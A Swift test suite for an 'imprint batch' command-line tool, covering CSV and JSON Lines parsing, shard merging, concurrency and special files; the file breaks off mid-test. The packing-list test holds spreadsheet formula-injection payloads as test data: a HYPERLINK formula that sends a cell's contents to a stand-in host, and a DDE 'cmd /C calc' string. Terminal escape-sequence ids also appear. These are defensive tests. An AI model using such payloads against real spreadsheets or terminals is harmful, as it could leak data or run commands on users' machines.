// SPDX-License-Identifier: Apache-2.0
// ImprintCLITests: `imprint batch` under hostile input: RFC 4180 manifests, strict JSON Lines,
// spreadsheet-safe packing lists, merges that refuse incomplete or mixed shards, concurrent
// shards on one folder, special files as job inputs, and a full disk.

import Foundation
import ImprintBatch
import ImprintCore
import ImprintTestSupport
import Testing

/// Runs the built `imprint` with `arguments` (after `prefix`, such as `prlimit --fsize=N`),
/// measured from outside (`runMeasured`: exit status, output, peak memory, seconds), killed
/// with its workers after `timeout` seconds (a hang guard: the status is then 999).
func measuredImprint(
  _ arguments: [String], prefix: [String] = [], stdinPath: String? = nil, timeout: Int = 180
) throws -> MeasuredRun {
  try runMeasured(
    prefix + [imprintBinary] + arguments, stdinPath: stdinPath, timeout: Double(timeout))
}

func write(_ text: String, to path: String) throws {
  try Data(text.utf8).write(to: URL(fileURLWithPath: path))
}

/// Hidden temporaries (`.NAME.tmp-…`) anywhere under `folder`.
func temporaries(under folder: String) -> [String] {
  var found: [String] = []
  let enumerator = FileManager.default.enumerator(atPath: folder)
  while let path = enumerator?.nextObject() as? String {
    if (path as NSString).lastPathComponent.contains(".tmp-") { found.append(path) }
  }
  return found
}

/// The cells of a CSV file as Python's csv module reads them.
func pythonCSV(_ path: String) throws -> [[String]] {
  let code = pythonFixture("csv_cells.py")
  let result = try runTool("python3", ["-c", code, path])
  precondition(result.status == 0, "python csv: \(result.stderr)")
  return try JSONSerialization.jsonObject(with: Data(result.stdoutBytes)) as? [[String]] ?? []
}

/// The error records of results lines, by id.
func errorCodes(_ lines: [[String: Any]]) -> [String: String] {
  var codes: [String: String] = [:]
  for line in lines {
    if let id = line["id"] as? String, let error = line["error"] as? [String: Any] {
      codes[id] = error["code"] as? String
    }
  }
  return codes
}

let harborProfile = repositoryRoot + "/assets/samples/profiles/harbor-lamp.json"

@Suite("CSV records (RFC 4180)", .liveHandlesChecked)
struct CSVReaderTests {
  func records(_ bytes: [UInt8], limit: Int = 1 << 20) throws -> [Result<CSVRecord, CSVError>] {
    let folder = TemporaryFolder()
    try Data(bytes).write(to: URL(fileURLWithPath: folder.file("f.csv")))
    var reader = try CSVReader(path: folder.file("f.csv"), name: "f.csv", limit: limit)
    var all: [Result<CSVRecord, CSVError>] = []
    while true {
      do {
        guard let record = try reader.next() else { break }
        all.append(.success(record))
      } catch {
        all.append(.failure(error))
        if !error.isRecordError { break }
      }
    }
    return all
  }

  func fields(_ text: String) throws -> [[String]] {
    try records(Array(text.utf8)).map { try $0.get().fields }
  }

  @Test("quoted commas, doubled quotes, line breaks inside quotes, CRLF and LF, empty fields")
  func quoting() throws {
    #expect(
      try fields("a,b\r\n\"x, y\",\"say \"\"hi\"\"\"\n") == [["a", "b"], ["x, y", "say \"hi\""]])
    #expect(
      try fields("id,address\r\n1,\"Road 4\r\nTown\"\r\n2,\"A\nB\nC\"\n") == [
        ["id", "address"], ["1", "Road 4\nTown"], ["2", "A\nB\nC"],
      ])
    #expect(try fields(",,\n\"\",\"\"\"\"\n") == [["", "", ""], ["", "\""]])
    #expect(try fields("no end") == [["no end"]])
    #expect(try fields("5\" card,x\n") == [["5\" card", "x"]])
    #expect(try fields("a\rb,c\r\n") == [["a\rb", "c"]])
    #expect(try fields("").isEmpty)
    #expect(try fields("\n\n") == [[""], [""]])
  }

  @Test("records start on the line where they start; the text is kept for fingerprints")
  func lines() throws {
    let all = try records(Array("h\n\"a\nb\nc\",d\ne\r\n".utf8)).map { try $0.get() }
    #expect(all.map(\.line) == [1, 2, 5])
    #expect(all[1].text == "\"a\nb\nc\",d")
    #expect(all[2].text == "e")
  }

  @Test("a byte-order mark at the start is not part of the first field")
  func bom() throws {
    #expect(
      try records([0xEF, 0xBB, 0xBF] + Array("id,kind\n".utf8)).map { try $0.get().fields } == [
        ["id", "kind"]
      ])
    // Elsewhere it is text.
    #expect(try fields("a\n\u{FEFF}b\n") == [["a"], ["\u{FEFF}b"]])
  }

  @Test("bad records are their own errors, naming the line they start on; reading goes on")
  func errors() throws {
    let all = try records(Array("ok\n\"a\"b,c\nnext\n\"open\nx\ny\n".utf8))
    #expect(try all[0].get().fields == ["ok"])
    #expect(all[1] == .failure(.strayQuote(path: "f.csv", line: 2)))
    #expect(try all[2].get().fields == ["next"])
    #expect(all[3] == .failure(.unclosedQuote(path: "f.csv", line: 4)))
    #expect(all.count == 4)
    let utf8 = try records(Array("a\n".utf8) + [0xFF, 0x0A] + Array("b\n".utf8))
    #expect(utf8.count == 3 && utf8[1] == .failure(.notUTF8(path: "f.csv", line: 2)))
    #expect(try utf8[2].get().line == 3)
  }

  @Test("a record over the limit is skipped, not held, and reading goes on after it")
  func limit() throws {
    let long = "a,\"" + String(repeating: "x\n", count: 600) + "\"\nb\n"
    let all = try records(Array(("h\n" + long).utf8), limit: 1000)
    #expect(all.count == 3)
    #expect(all[1] == .failure(.recordTooLong(path: "f.csv", line: 2, limit: 1000)))
    #expect(try all[2].get() == CSVRecord(line: 603, fields: ["b"], text: "b"))
    // A quote never closed: one error, at the line it opened.
    let open = try records(
      Array(("h\n\"" + String(repeating: "y\n", count: 2000)).utf8), limit: 1000)
    #expect(open.count == 2 && open[1] == .failure(.unclosedQuote(path: "f.csv", line: 2)))
  }

  @Test("packing-list cells: formula characters neutralised, RFC 4180 quoting")
  func spreadsheetCells() {
    for text in ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", " =1", "\u{FF1D}1"] {
      #expect(SpreadsheetCSV.neutralised(text) == "'" + text)
    }
    for text in ["Ann", "1 Road", "a=b", "", "x-1"] {
      #expect(SpreadsheetCSV.neutralised(text) == text)
    }
    #expect(
      SpreadsheetCSV.record(["a,b", "say \"x\"", "l1\nl2", "=x"])
        == "\"a,b\",\"say \"\"x\"\"\",\"l1\nl2\",'=x\r\n")
  }
}

@Suite("imprint batch under hostile input", .liveHandlesChecked)
struct BatchReliabilityTests {
  // MARK: Manifests

  @Test("a CSV saved by a spreadsheet (BOM, CRLF, quoted line breaks and commas) keeps every job")
  func spreadsheetManifest() async throws {
    let folder = TemporaryFolder()
    let rows = [
      "id,kind,payload,copies,name,address,zip",
      // A QR code has no copies: the column's cells are left empty on its rows.
      "q1,qr,https://example.org/1,,Ann,\"Road 4\r\nTown, Country\",123",
      "q2,qr,\"text, with comma\",,\"Bo \"\"B\"\" C\",\"Line 1\nLine 2\nLine 3\",",
      "",
      "q3,qr,plain,,Cy,Street 9,9",
    ]
    try Data([0xEF, 0xBB, 0xBF] + Array(rows.joined(separator: "\r\n").utf8)).write(
      to: URL(fileURLWithPath: folder.file("m.csv")))
    let run = await imprint(["batch", folder.file("m.csv"), "-o", folder.file("out")])
    #expect(run.code == 0, "\(run.stderr)")
    // The progress count agrees with the records (a quoted line break is not a job).
    #expect(run.stderr.contains("batch: 3/3 done"), "\(run.stderr)")
    let lines = try results(folder.file("out/results.jsonl"))
    #expect(lines.map { $0["id"] as? String } == ["q1", "q2", "q3"])
    // Each record's line is where it starts: q1 spans lines 2-3, q2 lines 4-6, line 7 is blank.
    #expect(lines.map { $0["line"] as? Int } == [2, 4, 8])
    #expect(
      (lines[0]["shipTo"] as? [String: Any])?["address"] as? String == "Road 4\nTown, Country")
    #expect((lines[1]["shipTo"] as? [String: Any])?["name"] as? String == "Bo \"B\" C")
    #expect(try zbarDecode(folder.file("out/qr/q2.png")) == "text, with comma")
    let packing = try pythonCSV(folder.file("out/packing-list.csv"))
    #expect(
      packing.map { $0[4] } == [
        "address", "Road 4\nTown, Country", "Line 1\nLine 2\nLine 3", "Street 9",
      ])
  }

  @Test("CSV records that cannot be jobs fail alone, naming the line they start on")
  func badCSVRecords() async throws {
    let folder = TemporaryFolder()
    let long = String(repeating: "z", count: 1_200_000)
    let text = [
      "id,kind,payload",
      "a,qr,one",
      "b,qr,\"x\"y",  // text after the closing quote
      "c,qr,two,extra",  // more fields than the header
      "d,qr,\"\(long)\"",  // over the record limit
      "e,qr,three",
      "f,qr,\"never closed",
      "g,qr,swallowed",
    ].joined(separator: "\n")
    try write(text, to: folder.file("m.csv"))
    let run = await imprint(["batch", folder.file("m.csv"), "-o", folder.file("out"), "-q"])
    #expect(run.code == 1)
    let lines = try results(folder.file("out/results.jsonl"))
    #expect(lines.map { $0["line"] as? Int } == [2, 3, 4, 5, 6, 7])
    #expect(
      lines.map { $0["status"] as? String } == ["ok", "failed", "failed", "failed", "ok", "failed"])
    let errors = lines.map { ($0["error"] as? [String: Any]) ?? [:] }
    #expect(
      errors.map { $0["code"] as? String } == [
        nil, "csv.strayQuote", "batch.badLine", "csv.recordTooLong", nil, "csv.unclosedQuote",
      ])
    #expect(
      (errors[2]["message"] as? String)?.contains("line 4 has 4 fields; the header has 3") == true)
    #expect((errors[3]["message"] as? String)?.contains("starting on line 5") == true)
    #expect((errors[5]["message"] as? String)?.contains("opened on line 7 is never closed") == true)
    // No error quotes the file.
    #expect(!errors.contains { ($0["message"] as? String)?.contains("zzzz") == true })
  }

  @Test("a CSV header that names a column twice fails every row with its own code")
  func duplicateColumn() async throws {
    let folder = TemporaryFolder()
    try write(
      "id,kind,payload,copies,copies\na,qr,x,1,10000\nb,qr,y,1,1\n", to: folder.file("m.csv"))
    let run = await imprint(["batch", folder.file("m.csv"), "-o", folder.file("out"), "-q"])
    #expect(run.code == 1)
    let lines = try results(folder.file("out/results.jsonl"))
    #expect(lines.count == 2 && errorCodes(lines).values.allSatisfy { $0 == "batch.badHeader" })
    #expect(
      errorCodes(lines).count == 0 || lines.allSatisfy { $0["status"] as? String == "failed" })
  }

  @Test("JSON Lines are strict: a repeated key, 1e400, deep nesting, bad UTF-8 fail that job only")
  func strictJSONLines() async throws {
    let folder = TemporaryFolder()
    var bytes: [UInt8] = [0xEF, 0xBB, 0xBF]
    bytes += Array(#"{"id":"a","kind":"qr","payload":"x"}"#.utf8) + [10]
    bytes +=
      Array(#"{"id":"dup","kind":"card","profile":"p.json","copies":1,"copies":10000}"#.utf8) + [10]
    bytes += Array(#"{"id":"big","kind":"qr","payload":"x","copies":1e400}"#.utf8) + [10]
    bytes +=
      Array(
        ("{\"id\":\"deep\",\"kind\":\"qr\",\"payload\":\"x\",\"format\":"
          + String(repeating: "[", count: 100) + String(repeating: "]", count: 100) + "}").utf8) + [
        10
      ]
    bytes +=
      Array(#"{"id":"utf","kind":"qr","payload":""#.utf8) + [0xC3, 0x28] + Array(#""}"#.utf8) + [10]
    bytes += Array("# a comment\n\n".utf8)
    bytes += Array(#"{"id":"b","kind":"qr","payload":"y"}"#.utf8) + [10]
    try Data(bytes).write(to: URL(fileURLWithPath: folder.file("m.jsonl")))
    let run = await imprint(["batch", folder.file("m.jsonl"), "-o", folder.file("out")])
    #expect(run.code == 1)
    #expect(run.stderr.contains("batch: 6/6 done"), "\(run.stderr)")
    let lines = try results(folder.file("out/results.jsonl"))
    #expect(
      lines.map { $0["status"] as? String } == ["ok", "failed", "failed", "failed", "failed", "ok"])
    let errors = lines.map { ($0["error"] as? [String: Any]) ?? [:] }
    #expect(
      errors.map { $0["code"] as? String } == [
        nil, "json.duplicateKey", "json.numberOutOfRange", "json.tooDeep", "json.notUTF8", nil,
      ])
    #expect(
      errors[1]["message"] as? String
        == "'m.jsonl' line 2, column 57: key 'copies' appears twice in one object")
    #expect(lines.map { $0["line"] as? Int } == [1, 2, 3, 4, 5, 8])
    #expect(!FileManager.default.fileExists(atPath: folder.file("out/cards/dup.pdf")))
  }

  @Test("JSON true and false are not numbers: not copies, not an id")
  func booleans() async throws {
    let folder = TemporaryFolder()
    let lines = [
      #"{"id":"a","kind":"card","profile":"p.json","copies":true}"#,
      #"{"id":true,"kind":"qr","payload":"y"}"#,
      #"{"id":7,"kind":"qr","payload":"z"}"#,
    ]
    try write(lines.joined(separator: "\n"), to: folder.file("m.jsonl"))
    let run = await imprint(["batch", folder.file("m.jsonl"), "-o", folder.file("out"), "-q"])
    #expect(run.code == 1)
    let results = try results(folder.file("out/results.jsonl"))
    #expect(results.map { $0["status"] as? String } == ["failed", "failed", "ok"])
    let messages = results.map { ($0["error"] as? [String: Any])?["message"] as? String }
    #expect(
      messages[0] == "manifest 'm.jsonl': item 'a' (line 1): 'copies' is true; expected 1 to 10000")
    #expect(messages[1] == "manifest 'm.jsonl': line 2: 'id' is true; expected text or a number")
    #expect(
      results.map { ($0["error"] as? [String: Any])?["code"] as? String } == [
        "batch.invalidField", "batch.invalidField", nil,
      ])
    #expect(results[2]["id"] as? String == "7")
  }

  @Test("a manifest that is a FIFO or a device is refused at once, not read")
  func specialManifest() throws {
    let folder = TemporaryFolder()
    #expect(try runTool("mkfifo", [folder.file("m.jsonl")]).status == 0)
    for manifest in [folder.file("m.jsonl"), "/dev/zero"] {
      let run = try measuredImprint(
        ["batch", manifest, "-o", folder.file("out"), "-q"])
      #expect(run.status == 1, "\(run.stderr)")
      #expect(
        run.stderr.contains("is not a regular file") || run.stderr.contains("a regular file"),
        "\(run.stderr)")
    }
  }

  @Test("a never-closed quote in a 60 MB manifest, and 2.4 million lines of records: memory flat")
  func largeManifests() throws {
    let folder = TemporaryFolder()
    // One quote opened on line 3 and never closed: 60 MB that are one record's error.
    #expect(FileManager.default.createFile(atPath: folder.file("open.csv"), contents: nil))
    let handle = try #require(FileHandle(forWritingAtPath: folder.file("open.csv")))
    handle.write(Data("id,kind,payload\na,qr,x\nb,qr,\"".utf8))
    let chunk = Data(String(repeating: "c,qr,y\n", count: 100_000).utf8)
    for _ in 0..<86 { handle.write(chunk) }
    try handle.close()
    let open = try measuredImprint([
      "batch", folder.file("open.csv"), "-o", folder.file("o1"), "-q",
    ])
    #expect(open.status == 1, "\(open.stderr)")
    if Sanitizer.measuresMemory { #expect(open.peakKiB < 150_000, "peak \(open.peakKiB) KiB") }
    let lines = try results(folder.file("o1/results.jsonl"))
    #expect(lines.count == 2 && errorCodes(lines)["line-3"] == "csv.unclosedQuote")
    // 40,000 records of 2.5 KB, 2.4 million lines (quoted line breaks), each a job that fails at
    // once (an unknown kind): 100 MB of manifest, and memory does not grow with it.
    let many = folder.file("many.csv")
    #expect(FileManager.default.createFile(atPath: many, contents: nil))
    let writer = try #require(FileHandle(forWritingAtPath: many))
    writer.write(Data("id,kind,payload\n".utf8))
    let body = String(repeating: "line, of text\n", count: 60)
    for block in 0..<40 {
      var text = ""
      for index in 0..<1_000 { text += "j\(block)-\(index),nope,\"\(body)\"\r\n" }
      writer.write(Data(text.utf8))
    }
    try writer.close()
    let big = try measuredImprint(["batch", many, "-o", folder.file("o2")])
    #expect(big.status == 1, "\(big.stderr)")
    #expect(big.stderr.contains("batch: 40000/40000 done"))
    if Sanitizer.measuresMemory { #expect(big.peakKiB < 110_000, "peak \(big.peakKiB) KiB") }
    var reader = try LineReader(path: folder.file("o2/results.jsonl"))
    var count = 0
    while let line = try reader.next() {
      count += 1
      if count == 40_000 {
        #expect(String(decoding: line, as: UTF8.self).contains("\"line\":2439941"))
      }
    }
    #expect(count == 40_000)
  }

  // MARK: Packing list

  @Test(
    "ship-to cells that a spreadsheet would run are neutralised; the CSV reads back cell for cell")
  func formulaInjection() async throws {
    let folder = TemporaryFolder()
    let hostile: [(name: String, address: String, zip: String)] = [
      ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "1 Road", "1"),
      ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"),
      ("\tTab", "\rCarriage", " =1+1"),
      ("Ann, \"Quoted\"", "Line 1\nLine 2, Town", "\u{FF1D}1"),
      ("plain", "a=b", "-"),
    ]
    var lines: [String] = []
    for (index, ship) in hostile.enumerated() {
      let object: [String: Any] = [
        "id": "s\(index)", "kind": "qr", "payload": "p\(index)",
        "shipTo": ["name": ship.name, "address": ship.address, "zip": ship.zip],
      ]
      lines.append(
        String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self))
    }
    try write(lines.joined(separator: "\n"), to: folder.file("m.jsonl"))
    let run = await imprint(["batch", folder.file("m.jsonl"), "-o", folder.file("out"), "-q"])
    #expect(run.code == 0, "\(run.stderr)")
    let cells = try pythonCSV(folder.file("out/packing-list.csv"))
    #expect(cells.count == hostile.count + 1)
    #expect(cells[0] == ["id", "copies", "name", "email", "address", "zip"])
    for (index, ship) in hostile.enumerated() {
      let row = cells[index + 1]
      #expect(
        row == [
          "s\(index)", "1", SpreadsheetCSV.neutralised(ship.name), "",
          SpreadsheetCSV.neutralised(ship.address), SpreadsheetCSV.neutralised(ship.zip),
        ])
      // No cell starts with a formula character.
      for cell in row {
        #expect(!(cell.first.map { "=+-@\t\r\u{FF1D}".contains($0) } ?? false), "\(row)")
      }
    }
    #expect(cells[1][2] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
    #expect(cells[4][4] == "Line 1\nLine 2, Town" && cells[5][4] == "a=b" && cells[5][5] == "'-")
    // RFC 4180: records end with CRLF.
    let raw = try String(contentsOfFile: folder.file("out/packing-list.csv"), encoding: .utf8)
    #expect(raw.hasPrefix("id,copies,name,email,address,zip\r\ns0,1,\"'=HYPERLINK("))
  }

  // MARK: Merge

  /// A manifest of `count` QR jobs (the fifth fails: an unknown kind) and two card jobs.
  func shardManifest(_ folder: TemporaryFolder, count: Int = 12) throws -> String {
    var lines: [String] = []
    for index in 0..<count {
      lines.append(
        index == 4
          ? #"{"id":"q\#(index)","kind":"nope"}"#
          : #"{"id":"q\#(index)","kind":"qr","payload":"p\#(index)","shipTo":{"name":"N\#(index)","address":"A"}}"#
      )
    }
    lines.append(#"{"id":"c1","kind":"card","profile":"\#(harborProfile)"}"#)
    lines.append(#"{"id":"c2","kind":"card","profile":"\#(harborProfile)","copies":2}"#)
    let path = folder.file("m.jsonl")
    try write(lines.joined(separator: "\n"), to: path)
    return path
  }

  func runShards(_ manifest: String, _ folder: String, _ count: Int, _ indices: [Int]? = nil) async
  {
    for index in indices ?? Array(0..<count) {
      _ = await imprint([
        "batch", manifest, "-o", folder, "--shard", "\(index)/\(count)", "-q",
        "--allow-missing-glyphs",
      ])
    }
  }

  @Test("merge refuses missing shards, another shard count, another manifest; exit 1, no results")
  func mergeRefusesIncomplete() async throws {
    let folder = TemporaryFolder()
    let manifest = try shardManifest(folder)
    let shared = folder.file("shared")
    let merge = { (extra: [String]) async -> Run in
      await imprint(
        ["batch", "merge", manifest, "-o", shared, "--layout", "A4", "--allow-missing-glyphs"]
          + extra)
    }
    // Only shard 0 of 3 ran.
    await runShards(manifest, shared, 3, [0])
    var run = await merge([])
    #expect(run.code == 1)
    #expect(
      run.stderr.contains(
        "shards 1 and 2 of 3 have no results (results-1-of-3.jsonl, results-2-of-3.jsonl)"),
      "\(run.stderr)")
    #expect(!FileManager.default.fileExists(atPath: shared + "/results.jsonl"))
    #expect(!FileManager.default.fileExists(atPath: shared + "/sheets-A4.pdf"))
    // All of 3, then all of 2 on the same folder: two runs' results.
    await runShards(manifest, shared, 3, [1, 2])
    await runShards(manifest, shared, 2)
    run = await merge([])
    #expect(run.code == 1)
    #expect(
      run.stderr.contains("holds the results of runs of 2 (results-*-of-2.jsonl) and 3"),
      "\(run.stderr)")
    #expect(run.stderr.contains("hint: "))
    #expect(!FileManager.default.fileExists(atPath: shared + "/results.jsonl"))
    // Naming the count merges that run: the same results and sheets as one unsharded run.
    run = await merge(["--shards", "2", "-q"])
    #expect(run.code == 1)  // the manifest's bad line
    let single = folder.file("single")
    _ = await imprint([
      "batch", manifest, "-o", single, "--layout", "A4", "-q", "--allow-missing-glyphs",
    ])
    let merged = try results(shared + "/results.jsonl")
    let unsharded = try results(single + "/results.jsonl")
    #expect(merged.map { $0["id"] as? String } == unsharded.map { $0["id"] as? String })
    // The shards of 2 skipped what those of 3 made before them.
    let done = { (line: [String: Any]) in
      (line["status"] as? String)?.replacingOccurrences(of: "skipped", with: "ok")
    }
    #expect(merged.map(done) == unsharded.map(done))
    #expect(snapshot(shared)["sheets-A4.pdf"] == snapshot(single)["sheets-A4.pdf"])
    #expect(snapshot(shared)["packing-list.csv"] == snapshot(single)["packing-list.csv"])
    // The manifest changed after the shards ran.
    try FileManager.default.removeItem(atPath: shared + "/results.jsonl")
    try write(
      (try String(contentsOfFile: manifest, encoding: .utf8)).replacingOccurrences(
        of: "\"copies\":2", with: "\"copies\":3"),
      to: manifest)
    run = await merge(["--shards", "2"])
    #expect(run.code == 1)
    #expect(
      run.stderr.contains("shards 0 and 1 of 2 ran another manifest than 'm.jsonl'"),
      "\(run.stderr)")
    #expect(!FileManager.default.fileExists(atPath: shared + "/results.jsonl"))
  }

  @Test("merge refuses a shard that did not finish, stopped early, or holds a job twice")
  func mergeRefusesUnfinished() async throws {
    let folder = TemporaryFolder()
    let manifest = try shardManifest(folder)
    let shared = folder.file("shared")
    await runShards(manifest, shared, 2)
    let merge = { await imprint(["batch", "merge", manifest, "-o", shared]) }
    // Killed before its completion record: still running or dead, not finished.
    let record = shared + "/.state/.shard-1-of-2.json"
    let saved = try Data(contentsOf: URL(fileURLWithPath: record))
    try FileManager.default.removeItem(atPath: record)
    var run = await merge()
    #expect(run.code == 1 && run.stderr.contains("shard 1 of 2 did not finish"), "\(run.stderr)")
    try saved.write(to: URL(fileURLWithPath: record))
    // A job twice (a line repeated).
    let file = shared + "/results-0-of-2.jsonl"
    let original = try String(contentsOfFile: file, encoding: .utf8)
    var lines = original.split(separator: "\n").map(String.init)
    try write((lines[0...1] + [lines[1]] + lines[2...]).joined(separator: "\n") + "\n", to: file)
    run = await merge()
    #expect(run.code == 1, "\(run.stderr)")
    #expect(
      run.stderr.contains(
        "shard 0 of 2 (results-0-of-2.jsonl line 3) has item 'q2' (line 3) where the manifest has item 'q4' (line 5)"
      ), "\(run.stderr)")
    // A job missing (cut short).
    lines.removeLast()
    try write(lines.joined(separator: "\n") + "\n", to: file)
    run = await merge()
    #expect(
      run.code == 1 && run.stderr.contains("shard 0 of 2 has no result for item 'c1' (line 13)"),
      "\(run.stderr)")
    #expect(!FileManager.default.fileExists(atPath: shared + "/results.jsonl"))
    // --fail-fast stopped the shard at its first failure (q4, the bad line).
    try write(original, to: file)
    _ = await imprint([
      "batch", manifest, "-o", shared, "--shard", "0/2", "-q", "--fail-fast", "-j", "1",
    ])
    run = await merge()
    #expect(
      run.code == 1 && run.stderr.contains("error: cannot merge the shards in"), "\(run.stderr)")
    #expect(run.stderr.contains("has no result for item"), "\(run.stderr)")
    #expect(temporaries(under: shared).isEmpty)
  }

  @Test(
    "an unreadable or over-long results line fails that job; the merge goes on and counts by status"
  )
  func mergeUnreadableLine() async throws {
    let folder = TemporaryFolder()
    let manifest = try shardManifest(folder)
    let shared = folder.file("shared")
    await runShards(manifest, shared, 2)
    let file = shared + "/results-1-of-2.jsonl"
    var lines = try String(contentsOfFile: file, encoding: .utf8).split(separator: "\n").map(
      String.init)
    lines[1] = "not json"  // q3
    lines[2] = String(repeating: "x", count: 1_100_000)  // q5
    try write(lines.joined(separator: "\n") + "\n", to: file)
    let run = await imprint(["batch", "merge", manifest, "-o", shared])
    #expect(run.code == 1)
    // q4 (the bad line), q3 and q5.
    #expect(run.stderr.contains("batch merge: 14 items from 2 shards, 3 failed"), "\(run.stderr)")
    let merged = try results(shared + "/results.jsonl")
    #expect(merged.count == 14)
    #expect(merged.map { $0["id"] as? String } == (0..<12).map { "q\($0)" } + ["c1", "c2"])
    let codes = errorCodes(merged)
    #expect(codes["q3"] == "batch.resultUnreadable" && codes["q5"] == "batch.resultUnreadable")
    #expect(merged.filter { $0["status"] as? String == "ok" }.count == 11)
    // The packing list leaves the failed out.
    let packing = try pythonCSV(shared + "/packing-list.csv")
    #expect(packing.count == 1 + 9)
    #expect(!packing.contains { $0[0] == "q3" || $0[0] == "q5" })
  }

  @Test(
    "a merge on a full disk exits 1 with its error and leaves no results or temporaries",
    .disabled(
      if: !Sanitizer.startsUnderSmallFileSizeLimit,
      Comment(rawValue: Sanitizer.smallFileSizeLimitReason)))
  func mergeFullDisk() async throws {
    let folder = TemporaryFolder()
    let manifest = try shardManifest(folder, count: 40)
    let shared = folder.file("shared")
    await runShards(manifest, shared, 2)
    let run = try measuredImprint(
      ["batch", "merge", manifest, "-o", shared, "-q"], prefix: ["prlimit", "--fsize=3000"])
    #expect(run.status == 1)
    #expect(run.stderr.contains("error: cannot write '\(shared)/results.jsonl'"), "\(run.stderr)")
    #expect(!FileManager.default.fileExists(atPath: shared + "/results.jsonl"))
    #expect(temporaries(under: shared).isEmpty, "\(temporaries(under: shared))")
  }

  @Test("ids with escape sequences are escaped where a merge echoes them")
  func escapedMergeErrors() async throws {
    let folder = TemporaryFolder()
    let lines = [
      #"{"id":"a","kind":"qr","payload":"x"}"#,
      #"{"id":"\u001b[2J\u001b]0;owned\u0007","kind":"qr","payload":"y"}"#,
      #"{"id":"b","kind":"qr","payload":"z"}"#,
    ]
    let manifest = folder.file("m.jsonl")
    try write(lines.joined(separator: "\n"), to: manifest)
    let shared = folder.file("shared")
    await runShards(manifest, shared, 2)
    // Shard 1 holds the bad id's (failed) result; shard 0 gets it where the manifest has 'b'.
    let bad = try String(contentsOfFile: shared + "/results-1-of-2.jsonl", encoding: .utf8)
    let first = try String(contentsOfFile: shared + "/results-0-of-2.jsonl", encoding: .utf8)
      .split(separator: "\n")[0]
    try write(first + "\n" + bad, to: shared + "/results-0-of-2.jsonl")
    let run = await imprint(["batch", "merge", manifest, "-o", shared])
    #expect(run.code == 1)
    #expect(
      run.stderr.contains("has item '\\u{1B}[2J\\u{1B}]0;owned\\u{7}' (line 2)"), "\(run.stderr)")
    #expect(!run.stderr.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
  }

  // MARK: Concurrent runs

  @Test(
    "two shards started together on one folder both finish; the merge equals one run; no temporaries"
  )
  func concurrentShards() throws {
    let folder = TemporaryFolder()
    var lines: [String] = []
    for index in 0..<16 {
      lines.append(
        #"{"id":"c\#(index)","kind":"card","profile":"\#(harborProfile)","copies":\#(index % 3 + 1)}"#
      )
      lines.append(#"{"id":"q\#(index)","kind":"qr","payload":"p\#(index)"}"#)
    }
    let manifest = folder.file("m.jsonl")
    try write(lines.joined(separator: "\n"), to: manifest)
    let shared = folder.file("shared")
    // A dead run's temporary (removed) and a live one's (kept), in a folder both runs clean.
    try FileManager.default.createDirectory(
      atPath: shared + "/qr", withIntermediateDirectories: true)
    var buffer = [CChar](repeating: 0, count: 256)
    _ = gethostname(&buffer, 255)
    let host = String(
      decoding: buffer.prefix { $0 != 0 }.map { UInt8(bitPattern: $0) }, as: UTF8.self
    ).filter { $0.isASCII && ($0.isLetter || $0.isNumber || $0 == "-" || $0 == ".") }
    let dead = Process()
    dead.executableURL = URL(fileURLWithPath: "/bin/true")
    try dead.run()
    dead.waitUntilExit()
    let deadName = shared + "/qr/.q0.png.tmp-\(host)-\(dead.processIdentifier)-1"
    let liveName = shared + "/qr/.q0.png.tmp-\(host)-\(getpid())-1"
    #expect(FileManager.default.createFile(atPath: deadName, contents: Data("x".utf8)))
    #expect(FileManager.default.createFile(atPath: liveName, contents: Data("x".utf8)))
    var processes: [Process] = []
    for index in 0..<2 {
      let process = Process()
      process.executableURL = URL(fileURLWithPath: imprintBinary)
      process.arguments = [
        "batch", manifest, "-o", shared, "--shard", "\(index)/2", "--layout", "A4", "-q", "-j", "2",
        "--allow-missing-glyphs", "--card-files",
      ]
      process.standardError = FileHandle.nullDevice
      processes.append(process)
    }
    for process in processes { try process.run() }
    for process in processes { process.waitUntilExit() }
    #expect(processes.map(\.terminationStatus) == [0, 0])
    #expect(!FileManager.default.fileExists(atPath: deadName))
    #expect(FileManager.default.fileExists(atPath: liveName))
    try FileManager.default.removeItem(atPath: liveName)
    let merge = try runTool(
      imprintBinary,
      ["batch", "merge", manifest, "-o", shared, "--layout", "A4", "-q", "--allow-missing-glyphs"])
    #expect(merge.status == 0, "\(merge.stderr)")
    let single = folder.file("single")
    let one = try runTool(
      imprintBinary,
      [
        "batch", manifest, "-o", single, "--layout", "A4", "-q", "--allow-missing-glyphs",
        "--card-files",
      ])
    #expect(one.status == 0, "\(one.stderr)")
    #expect(snapshot(shared)["sheets-A4.pdf"] != nil)
    #expect(snapshot(shared) == snapshot(single))
    #expect(temporaries(under: shared).isEmpty, "\(temporaries(under: shared))")
  }

  // MARK: Special files

  @Test("thumb and quote jobs on /dev/zero, a FIFO, a folder or a missing file fail alone, at once")
  func specialFiles() throws {
    let folder = TemporaryFolder()
    #expect(try runTool("mkfifo", [folder.file("pipe.pdf")]).status == 0)
    try FileManager.default.createDirectory(
      atPath: folder.file("dir.pdf"), withIntermediateDirectories: true)
    let prices = repositoryRoot + "/assets/samples/quotes/prices.json"
    let lines = [
      #"{"id":"zero","kind":"thumb","file":"/dev/zero"}"#,
      #"{"id":"ok1","kind":"qr","payload":"a"}"#,
      #"{"id":"fifo","kind":"thumb","file":"pipe.pdf"}"#,
      #"{"id":"random","kind":"thumb","file":"/dev/urandom"}"#,
      #"{"id":"dir","kind":"thumb","file":"dir.pdf"}"#,
      #"{"id":"gone","kind":"thumb","file":"missing.pdf"}"#,
      #"{"id":"quote","kind":"quote","file":"pipe.pdf","prices":"\#(prices)"}"#,
      #"{"id":"prices","kind":"quote","file":"order.json","prices":"/dev/zero"}"#,
      #"{"id":"ok2","kind":"qr","payload":"b"}"#,
    ]
    try write(lines.joined(separator: "\n"), to: folder.file("m.jsonl"))
    try write("{}", to: folder.file("order.json"))
    let run = try measuredImprint(
      ["batch", folder.file("m.jsonl"), "-o", folder.file("out"), "-q"])
    #expect(run.status == 1, "\(run.stderr)")
    if Sanitizer.measuresMemory { #expect(run.peakKiB < 300_000, "peak \(run.peakKiB) KiB") }
    let results = try results(folder.file("out/results.jsonl"))
    #expect(
      results.map { $0["id"] as? String } == [
